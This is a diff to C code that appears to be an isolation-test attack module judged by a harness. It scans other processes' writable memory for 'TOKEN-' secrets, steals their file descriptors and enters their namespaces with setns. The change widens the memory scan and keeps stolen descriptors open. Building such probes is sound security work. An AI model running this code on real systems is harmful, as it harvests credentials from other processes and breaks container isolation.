@@ -87,11 +87,13 @@ static void read_at(pid_t pid, unsigned long from, unsigned long to)
 		remote.iov_base = (void *)(uintptr_t)from; /* NOLINT: the other process's */
 		remote.iov_len = local.iov_len = to - from < sizeof(page) ? to - from : sizeof(page);
 		if (process_vm_readv(pid, &local, 1, &remote, 1, 0) > 0)
-			for (size_t i = 0; i + 24 < local.iov_len; i++)
+			for (size_t i = 0; i + 40 < local.iov_len; i++)
 				if (memcmp(page + i, "TOKEN-", 6) == 0)
-					printf("got memory of %d: %.24s\n", pid, page + i);
+					printf("got memory of %d: %.40s\n", pid, page + i);
 	}
 }
+
+#define MOST_MEMORY (64UL << 20) /* of one mapping */
 
 static void read_memory(pid_t pid)
 {
@@ -102,8 +104,8 @@ static void read_memory(pid_t pid)
 	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
 	maps = fopen(path, "r");
 	while (maps && fgets(line, sizeof(line), maps))
-		if (sscanf(line, "%lx-%lx rw", &from, &to) == 2 &&
-		    (strstr(line, "[heap]") || strstr(line, "[stack]")))
+		if (sscanf(line, "%lx-%lx", &from, &to) == 2 && strstr(line, " rw-p ") &&
+		    to - from <= MOST_MEMORY)
 			read_at(pid, from, to);
 	if (maps)
 		fclose(maps);
@@ -132,18 +134,18 @@ static void steal_from(pid_t pid)
 		printf("stole %s\n", how);
 		look_from(fd, how);
 		setns(fd, 0);
-		close(fd);
 	}
 	if (pidfd >= 0)
 		close(pidfd);
 }
 
-/* What was stolen may also have been a namespace. */
+/* What was stolen may have been a namespace. It stays open, so that the judge sees it. */
 void attack_steal_fds(char **args)
 {
 	(void)args;
 	each_process(steal_from);
 	look_in("/");
+	wait_for_judge();
 }
 
 /* ---- signals ---- */
